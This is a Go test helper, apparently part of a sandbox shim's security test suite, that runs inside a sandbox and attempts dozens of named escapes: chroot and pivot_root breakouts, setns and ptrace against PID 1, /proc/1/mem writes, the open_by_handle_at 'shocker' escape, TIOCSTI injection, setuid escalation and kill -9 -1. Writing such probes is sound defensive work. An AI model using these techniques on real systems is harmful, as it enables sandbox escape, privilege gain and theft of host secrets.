// SPDX-License-Identifier: Apache-2.0

// Command attackprobe is the attacker of shim/attack_test.go: it runs
// inside a sandbox, performs one named attack with raw system calls and
// prints a verdict line. It is built only by that test and never
// installed; nothing but tests may import it.
//
//	attackprobe CASE [key=value ...]
//
// Output: "RAN CASE" before the attempt, then "ATTACK-SUCCEEDED CASE
// detail" or "DENIED CASE ERRNO detail". The test judges from outside the
// sandbox wherever the attack has an effect there; the line printed here
// is then only a detail.
package main

import (
	"bufio"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

var args = map[string]string{}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attackprobe CASE [key=value ...]")
		os.Exit(2)
	}
	name := os.Args[1]
	if name == "noop" {
		os.Exit(0)
	}
	if name == "host-watch" && len(os.Args) == 3 {
		hostWatch(os.Args[2])
		return
	}
	for _, a := range os.Args[2:] {
		k, v, _ := strings.Cut(a, "=")
		args[k] = v
	}
	f, ok := cases[name]
	if !ok {
		fmt.Printf("UNKNOWN %s\n", name)
		os.Exit(2)
	}
	fmt.Printf("RAN %s\n", name)
	detail, err := f()
	if err != nil {
		fmt.Printf("DENIED %s %s %s\n", name, errnoName(err), oneLine(err.Error()))
		return
	}
	fmt.Printf("ATTACK-SUCCEEDED %s %s\n", name, oneLine(detail))
}

func oneLine(s string) string { return strings.ReplaceAll(strings.TrimSpace(s), "\n", "\\n") }

func errnoName(err error) string {
	var e syscall.Errno
	if errors.As(err, &e) {
		if n := unix.ErrnoName(e); n != "" {
			return n
		}
		return "errno" + strconv.Itoa(int(e))
	}
	return "error"
}

// step names the call that failed.
func step(what string, err error) error {
	if err == nil {
		return nil
	}
	return fmt.Errorf("%s: %w", what, err)
}

var cases = map[string]func() (string, error){
	"write-ro-bind":      func() (string, error) { return writeFile("/ro/victim", unix.O_WRONLY|unix.O_TRUNC) },
	"write-usr":          func() (string, error) { return writeFile("/usr/"+args["name"], unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL) },
	"write-rootfs":       func() (string, error) { return writeFile("/pwned", unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL) },
	"remount-rw-setattr": remountSetattr("/ro", "/ro/victim", unix.O_WRONLY|unix.O_TRUNC),
	"remount-root-rw":    remountSetattr("/", "/pwned", unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL),
	"remount-rw-classic": remountClassic,
	"umount-reveal":      umountReveal,
	"tmpfs-over-ro":      tmpfsOverRO,
	"fsmount-over-ro":    fsmountOverRO,
	"mount-proc":         mountProc,
	"pivot-root-out":     pivotRootOut,
	"chroot-out":         chrootOut,
	"unshare-userns":     func() (string, error) { return child(&syscall.SysProcAttr{Unshareflags: unix.CLONE_NEWUSER}) },
	// Not an attack: the program's AppArmor label, for TestShimAppArmor.
	"apparmor-label":       func() (string, error) { return readFile("/proc/self/attr/current") },
	"clone-newuser":        func() (string, error) { return child(&syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER}) },
	"setns-pid1-mnt":       setnsPID1Mnt,
	"setns-undeclared-net": setnsUndeclaredNet,
	"ptrace-host":          func() (string, error) { return ptraceAttach(atoi(args["pid"])) },
	"kill-host":            func() (string, error) { return "kill sent", unix.Kill(atoi(args["pid"]), unix.SIGKILL) },
	"kill-all":             func() (string, error) { return "kill -9 -1 sent", unix.Kill(-1, unix.SIGKILL) },
	"ptrace-pid1":          ptraceSeizePID1,
	"write-pid1-mem":       writePID1Mem,
	"proc1-root-secret":    func() (string, error) { return readFile("/proc/1/root" + args["outside"] + "/secret") },
	"mountinfo-host-path":  mountTables,
	"proc1-cwd-secret":     proc1Cwd,
	"proc1-fd-secret":      func() (string, error) { return procFDs("/proc/1/fd") },
	"proc-self-fd-secret":  func() (string, error) { return procFDs("/proc/self/fd") },
	"abstract-unix-host":   func() (string, error) { return connect(unix.AF_UNIX, &unix.SockaddrUnix{Name: "@" + args["name"]}) },
	"tcp4-host": func() (string, error) {
		return connect(unix.AF_INET, &unix.SockaddrInet4{Port: atoi(args["port"]), Addr: [4]byte{127, 0, 0, 1}})
	},
	"tcp6-host":               tcp6,
	"socket-packet":           socketPacket,
	"dgram-path-sendto":       func() (string, error) { return pairSendto(unix.SOCK_DGRAM) },
	"stream-path-sendto":      func() (string, error) { return pairSendto(unix.SOCK_STREAM) },
	"stream-path-connect":     pathConnect,
	"inherited-stream-sendto": inheritedSendto,
	"scm-rights-from-peer":    receivedSendto,
	"netlink-route-admin":     netlinkAdmin,
	"keyctl":                  keyctl,
	"bpf":                     bpfMapCreate,
	"perf-event-open":         perfEventOpen,
	"userfaultfd":             userfaultfd,
	"io-uring-setup":          ioUringSetup,
	"aio-global-budget":       aioBudget,
	"mq-user-budget":          mqBudget,
	"sigpending-user-budget":  sigpendingBudget,
	"inotify-user-budget":     inotifyBudget,
	"open-by-handle-at":       openByHandleAt,
	"tiocsti":                 tiocsti,
	"tiocsti-own-terminal":    tiocsti,
	"tiocsti-high-bits":       tiocstiHighBits,
	"tiocsetd-terminal":       tiocsetd,
	"tiocexcl-terminal":       tiocexcl,
	"reopen-own-terminal":     reopenFD(0),
	"reopen-other-pts":        reopenFD(3),
	"undeclared-fd-file":      undeclaredFile,
	"undeclared-fd-dir":       undeclaredDir,
	"getsockopt-declared":     func() (string, error) { return getsockopt(3, unix.SO_TYPE) },
	"getsockopt-rcvbuf":       func() (string, error) { return getsockopt(3, unix.SO_RCVBUF) },
	"getsockopt-undeclared":   getsockoptUndeclared,
	"setuid-own":              setuidOwn,
	"setuid-root":             func() (string, error) { return execEUID("/suid/id") },
	"mknod-workspace":         func() (string, error) { return mknod("/workspace/null2") },
	"mknod-tmp":               func() (string, error) { return mknod("/tmp/null2") },
	"write-proc-hostname":     func() (string, error) { return writeString("/proc/sys/kernel/hostname", "pwned-by-sandbox") },
	"write-drop-caches":       func() (string, error) { return writeString("/proc/sys/vm/drop_caches", "1") },
	"write-core-pattern":      func() (string, error) { return writeString("/proc/sys/kernel/core_pattern", "|/workspace/pwn") },
	"write-sys-mtu":           func() (string, error) { return writeString("/sys/class/net/lo/mtu", "1280") },
	"write-proc-sys-net":      func() (string, error) { return writeString("/proc/sys/net/ipv4/ip_forward", "1") },
	"read-sys-firmware":       func() (string, error) { return readFile("/sys/firmware/memmap/0/start") },
	"proc1-fd-cgroup":         proc1FDCgroup,
	"sethostname":             func() (string, error) { return "sethostname done", unix.Sethostname([]byte("pwned-by-sandbox")) },
}

func atoi(s string) int { n, _ := strconv.Atoi(s); return n }

func writeFile(path string, flags int) (string, error) {
	fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0o644)
	if err != nil {
		return "", step("open "+path, err)
	}
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte("pwned\n")); err != nil {
		return "", step("write "+path, err)
	}
	return "wrote " + path, nil
}

func writeString(path, s string) (string, error) {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", step("open "+path, err)
	}
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte(s)); err != nil {
		return "", step("write "+path, err)
	}
	return "wrote " + path, nil
}

// mountTables prints the mount tables of the program and of PID 1; the
// judge outside looks in them for the bundle root's host path.
func mountTables() (string, error) {
	var b strings.Builder
	for _, p := range []string{"/proc/self/mountinfo", "/proc/1/mountinfo"} {
		data, err := os.ReadFile(p)
		if err != nil {
			fmt.Fprintf(&b, "%s: %v; ", p, err)
			continue
		}
		fmt.Fprintf(&b, "%s: %q; ", p, data)
	}
	return b.String(), nil
}

func readFile(path string) (string, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("read %s: %q", path, b), nil
}

func remountSetattr(mnt, victim string, flags int) func() (string, error) {
	return func() (string, error) {
		attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
		if err := unix.MountSetattr(unix.AT_FDCWD, mnt, 0, &attr); err != nil {
			return "", step("mount_setattr "+mnt, err)
		}
		d, err := writeFile(victim, flags)
		return "mount_setattr cleared RDONLY; " + d, err
	}
}

func remountClassic() (string, error) {
	if err := unix.Mount("", "/ro", "", unix.MS_REMOUNT|unix.MS_BIND|unix.MS_NOSUID|unix.MS_NODEV, ""); err != nil {
		return "", step("mount MS_REMOUNT|MS_BIND /ro", err)
	}
	d, err := writeFile("/ro/victim", unix.O_WRONLY|unix.O_TRUNC)
	return "remounted rw; " + d, err
}

func umountReveal() (string, error) {
	if err := unix.Unmount("/ro", unix.MNT_DETACH); err != nil {
		return "", step("umount2 /ro", err)
	}
	return readFile("/ro/hidden")
}

func tmpfsOverRO() (string, error) {
	if err := unix.Mount("tmpfs", "/ro", "tmpfs", 0, "size=1m"); err != nil {
		return "", step("mount tmpfs /ro", err)
	}
	return writeFile("/ro/planted", unix.O_WRONLY|unix.O_CREAT)
}

func fsmountOverRO() (string, error) {
	fs, err := unix.Fsopen("tmpfs", unix.FSOPEN_CLOEXEC)
	if err != nil {
		return "", step("fsopen tmpfs", err)
	}
	if err := unix.FsconfigCreate(fs); err != nil {
		return "", step("fsconfig create", err)
	}
	m, err := unix.Fsmount(fs, unix.FSMOUNT_CLOEXEC, 0)
	if err != nil {
		return "", step("fsmount", err)
	}
	if err := unix.MoveMount(m, "", unix.AT_FDCWD, "/ro", unix.MOVE_MOUNT_F_EMPTY_PATH); err != nil {
		return "", step("move_mount onto /ro", err)
	}
	return writeFile("/ro/planted", unix.O_WRONLY|unix.O_CREAT)
}

func mountProc() (string, error) {
	// It may exist already (an earlier case of the same run); any other
	// failure stops the attack here, which is as much a verdict as the
	// mount's own failure below.
	if err := os.Mkdir("/tmp/p", 0o755); err != nil && !errors.Is(err, os.ErrExist) {
		return "", step("mkdir /tmp/p", err)
	}
	if err := unix.Mount("proc", "/tmp/p", "proc", unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, ""); err != nil {
		return "", step("mount proc /tmp/p", err)
	}
	return "mounted a second proc at /tmp/p", nil
}

// pivotRootOut pivots into a new root and looks for the host in the old
// one.
func pivotRootOut() (string, error) {
	if err := os.MkdirAll("/tmp/nr/old", 0o755); err != nil {
		return "", err
	}
	if err := unix.Mount("/tmp/nr", "/tmp/nr", "", unix.MS_BIND, ""); err != nil {
		return "", step("bind /tmp/nr", err)
	}
	if err := unix.PivotRoot("/tmp/nr", "/tmp/nr/old"); err != nil {
		return "", step("pivot_root", err)
	}
	if d, err := readFile("/old" + args["outside"] + "/secret"); err == nil {
		return d, nil
	}
	return readFile(args["outside"] + "/secret")
}

// chrootOut is the classic escape: chroot into a subdirectory while the
// working directory stays outside it, then climb.
func chrootOut() (string, error) {
	if err := os.MkdirAll("/tmp/c", 0o755); err != nil {
		return "", err
	}
	if err := unix.Chroot("/tmp/c"); err != nil {
		return "", step("chroot", err)
	}
	for range 64 {
		// Climbing stops at whatever top the kernel enforces; a step
		// that fails ends the climb, and the chroot below says where it
		// ended up.
		if err := unix.Chdir(".."); err != nil {
			break
		}
	}
	if err := unix.Chroot("."); err != nil {
		return "", step("chroot .", err)
	}
	return readFile(args["outside"] + "/secret")
}

func child(attr *syscall.SysProcAttr) (string, error) {
	cmd := exec.Command("/proc/self/exe", "noop")
	cmd.SysProcAttr = attr
	if err := cmd.Run(); err != nil {
		return "", err
	}
	return "a child ran in a new user namespace", nil
}

// inThread runs f on a locked thread that has its own fs_struct, so that
// setns may move it into another mount namespace. The thread is never
// unlocked: it dies with the goroutine.
func inThread(f func() (string, error)) (string, error) {
	type res struct {
		s   string
		err error
	}
	c := make(chan res, 1)
	go func() {
		runtime.LockOSThread()
		s, err := f()
		c <- res{s, err}
	}()
	r := <-c
	return r.s, r.err
}

func setnsPID1Mnt() (string, error) {
	return inThread(func() (string, error) {
		fd, err := unix.Open("/proc/1/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return "", step("open /proc/1/ns/mnt", err)
		}
		if err := unix.Unshare(unix.CLONE_FS); err != nil {
			return "", step("unshare(CLONE_FS)", err)
		}
		if err := unix.Setns(fd, unix.CLONE_NEWNS); err != nil {
			return "", step("setns", err)
		}
		if err := unix.Unmount("/ro", unix.MNT_DETACH); err != nil {
			return "", step("setns done; umount2 /ro", err)
		}
		return readFile("/ro/hidden")
	})
}

func setnsUndeclaredNet() (string, error) {
	return inThread(func() (string, error) {
		if err := unix.Setns(7, unix.CLONE_NEWNET); err != nil {
			return "", step("setns(7)", err)
		}
		return connect(unix.AF_INET, &unix.SockaddrInet4{Port: atoi(args["port"]), Addr: [4]byte{127, 0, 0, 1}})
	})
}

func ptraceAttach(pid int) (string, error) {
	return inThread(func() (string, error) {
		if err := unix.PtraceAttach(pid); err != nil {
			return "", step("PTRACE_ATTACH "+strconv.Itoa(pid), err)
		}
		return "attached to " + strconv.Itoa(pid), nil
	})
}

// ptraceSeizePID1 seizes PID 1 without stopping it (an attached and
// stopped PID 1 would stop reaping, and the sandbox would hang).
func ptraceSeizePID1() (string, error) {
	return inThread(func() (string, error) {
		if err := unix.PtraceSeize(1); err != nil {
			return "", step("PTRACE_SEIZE 1", err)
		}
		return "seized PID 1", nil
	})
}

func writePID1Mem() (string, error) {
	f, err := os.Open("/proc/1/maps")
	if err != nil {
		return "", step("open /proc/1/maps", err)
	}
	defer f.Close()
	var addr uint64
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fs := strings.Fields(sc.Text())
		if len(fs) > 1 && strings.HasPrefix(fs[1], "rw") {
			lo, _, _ := strings.Cut(fs[0], "-")
			addr, _ = strconv.ParseUint(lo, 16, 64)
			break
		}
	}
	if err := sc.Err(); err != nil {
		return "", step("read /proc/1/maps", err)
	}
	if addr == 0 {
		return "", errors.New("no writable mapping in /proc/1/maps")
	}
	fd, err := unix.Open("/proc/1/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", step("open /proc/1/mem", err)
	}
	defer unix.Close(fd)
	b := make([]byte, 1)
	if _, err := unix.Pread(fd, b, int64(addr)); err != nil {
		return "", step("pread /proc/1/mem", err)
	}
	// The same byte back: proof of the write without harming PID 1.
	if _, err := unix.Pwrite(fd, b, int64(addr)); err != nil {
		return "", step("pwrite /proc/1/mem", err)
	}
	return fmt.Sprintf("wrote PID 1's memory at %#x", addr), nil
}

func proc1Cwd() (string, error) {
	up := strings.Repeat("../", 32)
	return readFile("/proc/1/cwd/" + up + strings.TrimPrefix(args["outside"], "/") + "/secret")
}

// procFDs tries every descriptor of dir as a way to the host's secret.
func procFDs(dir string) (string, error) {
	ents, err := os.ReadDir(dir)
	if err != nil {
		return "", step("list "+dir, err)
	}
	var tried []string
	var last error = unix.ENOENT
	for _, e := range ents {
		p := dir + "/" + e.Name()
		target, _ := os.Readlink(p)
		tried = append(tried, e.Name()+"->"+target)
		cands := []string{p + "/secret", p + "/" + strings.Repeat("../", 32) + strings.TrimPrefix(args["outside"], "/") + "/secret"}
		if strings.HasPrefix(target, "/") {
			if rel, err := filepath.Rel(target, args["outside"]); err == nil {
				cands = append(cands, p+"/"+rel+"/secret")
			}
		}
		for _, c := range cands {
			b, err := os.ReadFile(c)
			if err == nil && strings.Contains(string(b), "secret") {
				return fmt.Sprintf("read %s: %q", c, b), nil
			}
			if err != nil {
				last = err
			}
		}
	}
	return "", fmt.Errorf("no descriptor led out (%s): %w", strings.Join(tried, " "), last)
}

func connect(family int, sa unix.Sockaddr) (string, error) {
	fd, err := unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", step("socket", err)
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, sa); err != nil {
		return "", step("connect", err)
	}
	return "connected", nil
}

// pairSendto makes a unix socket pair of typ (no socket(), no connect())
// and sends one datagram from it to the path socket args["path"].
func pairSendto(typ int) (string, error) {
	fds, err := unix.Socketpair(unix.AF_UNIX, typ|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", step("socketpair", err)
	}
	defer unix.Close(fds[0])
	defer unix.Close(fds[1])
	if err := unix.Sendto(fds[0], []byte("glove-attack"), 0, &unix.SockaddrUnix{Name: args["path"]}); err != nil {
		return "", step("sendto", err)
	}
	return "sent a datagram to " + args["path"], nil
}

// pathConnect makes an AF_UNIX stream socket and connects it to a path,
// as a client of a host service whose socket it can see would.
func pathConnect() (string, error) {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", step("socket", err)
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: args["path"]}); err != nil {
		return "", step("connect", err)
	}
	return "connected to " + args["path"], nil
}

// inheritedSendto aims the inherited stream (descriptor 3) at a path: a
// datagram sent to an address, then a connect.
func inheritedSendto() (string, error) {
	errSend := unix.Sendto(3, []byte("glove-attack"), 0, &unix.SockaddrUnix{Name: args["path"]})
	if errSend == nil {
		return "sent a datagram to " + args["path"] + " through descriptor 3", nil
	}
	if err := unix.Connect(3, &unix.SockaddrUnix{Name: args["path"]}); err == nil {
		return "connected descriptor 3 to " + args["path"], nil
	} else {
		return "", fmt.Errorf("sendto: %w; connect: %v", errSend, err)
	}
}

// receivedSendto takes a socket its stream's peer hands over (SCM_RIGHTS
// on descriptor 3) and sends to a path with it.
func receivedSendto() (string, error) {
	buf, oob := make([]byte, 16), make([]byte, unix.CmsgSpace(4))
	_, oobn, _, _, err := unix.Recvmsg(3, buf, oob, 0)
	if err != nil {
		return "", step("recvmsg", err)
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil || len(msgs) != 1 {
		return "", fmt.Errorf("no descriptor received (%d messages, %v)", len(msgs), err)
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(fds) != 1 {
		return "", fmt.Errorf("no descriptor received (%v)", err)
	}
	defer unix.Close(fds[0])
	if err := unix.Sendto(fds[0], []byte("glove-attack"), 0, &unix.SockaddrUnix{Name: args["path"]}); err != nil {
		return "", step("sendto", err)
	}
	return "sent a datagram to " + args["path"] + " with a received socket", nil
}

func tcp6() (string, error) {
	return connect(unix.AF_INET6, &unix.SockaddrInet6{Port: atoi(args["port"]), Addr: [16]byte{15: 1}})
}

func socketPacket() (string, error) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return "", step("socket(AF_PACKET)", err)
	}
	unix.Close(fd)
	return "opened a raw packet socket", nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func netlinkAdmin() (string, error) {
	lo, err := netlink.LinkByName("lo")
	if err != nil {
		return "", step("netlink: find lo", err)
	}
	if err := netlink.LinkSetMTU(lo, 1280); err != nil {
		return "", step("netlink: set lo mtu", err)
	}
	return "changed lo's MTU over netlink", nil
}

func keyctl() (string, error) {
	id, err := unix.AddKey("user", "glove-attack", []byte("x"), unix.KEY_SPEC_PROCESS_KEYRING)
	if err != nil {
		return "", step("add_key", err)
	}
	return fmt.Sprintf("added key %d", id), nil
}

func userfaultfd() (string, error) {
	const userModeOnly = 1
	fd, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|userModeOnly, 0, 0)
	if e != 0 {
		return "", step("userfaultfd", e)
	}
	unix.Close(int(fd))
	return "opened a userfaultfd", nil
}

// openByHandleAt is the "shocker" escape: a file handle forged from the
// host's outside directory (type and bytes passed by the test, which read
// them with name_to_handle_at on the host), opened relative to a mount of
// the same file system inside the sandbox.
func openByHandleAt() (string, error) {
	raw, err := hex.DecodeString(args["handle"])
	if err != nil {
		return "", err
	}
	h := unix.NewFileHandle(int32(atoi(args["type"])), raw)
	mfd, err := unix.Open(args["mount"], unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", step("open "+args["mount"], err)
	}
	fd, err := unix.OpenByHandleAt(mfd, h, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
	if err != nil {
		return "", step("open_by_handle_at", err)
	}
	sfd, err := unix.Openat(fd, "secret", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", step("opened the host directory; openat secret", err)
	}
	b := make([]byte, 64)
	n, _ := unix.Read(sfd, b)
	return fmt.Sprintf("read through a forged handle: %q", b[:n]), nil
}

func tiocsti() (string, error) {
	inject := func() error {
		for _, c := range []byte("id\n") {
			if err := unix.IoctlSetPointerInt(0, unix.TIOCSTI, int(c)); err != nil {
				return err
			}
		}
		return nil
	}
	err := inject()
	if err == nil {
		return "injected input into the terminal", nil
	}
	// Second try: take the terminal as controlling terminal first.
	if cerr := unix.IoctlSetInt(0, unix.TIOCSCTTY, 0); cerr != nil {
		return "", fmt.Errorf("TIOCSTI: %w; TIOCSCTTY: %v", err, cerr)
	}
	if err := inject(); err != nil {
		return "", step("TIOCSCTTY worked; TIOCSTI", err)
	}
	return "took the terminal and injected input", nil
}

// tiocsetd sets the line discipline of the terminal given as standard
// input to N_NULL (27): the operator's terminal then drops all input and
// output after the program is gone.
func tiocsetd() (string, error) {
	if err := unix.IoctlSetPointerInt(0, unix.TIOCSETD, 27); err != nil {
		return "", step("ioctl(TIOCSETD, N_NULL)", err)
	}
	return "set the terminal's line discipline to N_NULL", nil
}

// tiocexcl puts the terminal given as standard input in exclusive mode:
// nobody but root may open it again (the operator's new shells fail).
func tiocexcl() (string, error) {
	if err := unix.IoctlSetInt(0, unix.TIOCEXCL, 0); err != nil {
		return "", step("ioctl(TIOCEXCL)", err)
	}
	return "made the terminal exclusive", nil
}

// reopenFD opens /proc/self/fd/N for writing, as a shell's
// "> /dev/stderr" does through /dev/stderr's link, and writes a marker
// there.
func reopenFD(fd int) func() (string, error) {
	return func() (string, error) {
		p := "/proc/self/fd/" + strconv.Itoa(fd)
		w, err := unix.Open(p, unix.O_WRONLY|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			return "", step("open "+p+" for writing", err)
		}
		defer unix.Close(w)
		if _, err := unix.Write(w, []byte("REOPENED-WRITE\n")); err != nil {
			return "", step("write "+p, err)
		}
		return "re-opened " + p + " for writing and wrote to it", nil
	}
}

func undeclaredFile() (string, error) {
	b := make([]byte, 64)
	n, rerr := unix.Pread(7, b, 0)
	_, werr := unix.Pwrite(7, []byte("pwned\n"), 0)
	if rerr != nil && werr != nil {
		return "", fmt.Errorf("read: %v; write: %w", rerr, werr)
	}
	return fmt.Sprintf("read %q (err %v), write err %v", b[:max(n, 0)], rerr, werr), nil
}

func undeclaredDir() (string, error) {
	fd, err := unix.Openat(7, "secret", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", step("openat(7, secret)", err)
	}
	b := make([]byte, 64)
	n, _ := unix.Read(fd, b)
	return fmt.Sprintf("read %q", b[:max(n, 0)]), nil
}

func getsockopt(fd, opt int) (string, error) {
	v, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, opt)
	if err != nil {
		return "", step(fmt.Sprintf("getsockopt(%d, SOL_SOCKET, %d)", fd, opt), err)
	}
	return fmt.Sprintf("getsockopt(%d, SOL_SOCKET, %d) = %d", fd, opt, v), nil
}

func getsockoptUndeclared() (string, error) {
	fds, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", step("socketpair", err)
	}
	return getsockopt(fds[0], unix.SO_TYPE)
}

func execEUID(path string) (string, error) {
	out, err := exec.Command(path, "-u").Output()
	if err != nil {
		return "", step("exec "+path, err)
	}
	got := strings.TrimSpace(string(out))
	if got == strconv.Itoa(unix.Geteuid()) {
		return "", fmt.Errorf("euid stayed %s: %w", got, unix.EPERM)
	}
	return fmt.Sprintf("euid became %s (was %d)", got, unix.Geteuid()), nil
}

func setuidOwn() (string, error) {
	b, err := os.ReadFile("/usr/bin/id")
	if err != nil {
		return "", err
	}
	p := "/workspace/suid-id"
	if err := os.WriteFile(p, b, 0o755); err != nil {
		return "", err
	}
	if err := unix.Chmod(p, 0o4755); err != nil {
		return "", step("chmod 4755", err)
	}
	return execEUID(p)
}

func mknod(path string) (string, error) {
	if err := unix.Mknod(path, unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))); err != nil {
		return "", step("mknod "+path, err)
	}
	fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", step("mknod worked; open "+path, err)
	}
	unix.Close(fd)
	return "created and opened a device node at " + path, nil
}

// proc1FDCgroup reads, through /proc/1/fd, every descriptor of PID 1 that
// names a host cgroup file (the Go runtime keeps the cgroup CPU limit
// files open to follow them unless GODEBUG=containermaxprocs=0), and
// tries to reopen it for writing.
func proc1FDCgroup() (string, error) {
	ents, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return "", step("list /proc/1/fd", err)
	}
	var last error = fmt.Errorf("PID 1 holds no cgroup file it lets us name: %w", unix.ENOENT)
	for _, e := range ents {
		p := "/proc/1/fd/" + e.Name()
		target, _ := os.Readlink(p)
		if !strings.HasPrefix(target, "/sys/fs/cgroup") {
			continue
		}
		b, err := os.ReadFile(p)
		if err != nil {
			last = step("read "+p+" ("+target+")", err)
			continue
		}
		fd, werr := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if werr == nil {
			unix.Close(fd)
		}
		return fmt.Sprintf("read the host's %s through %s: %q (reopen for writing: %v)", target, p, b, werr), nil
	}
	return "", last
}
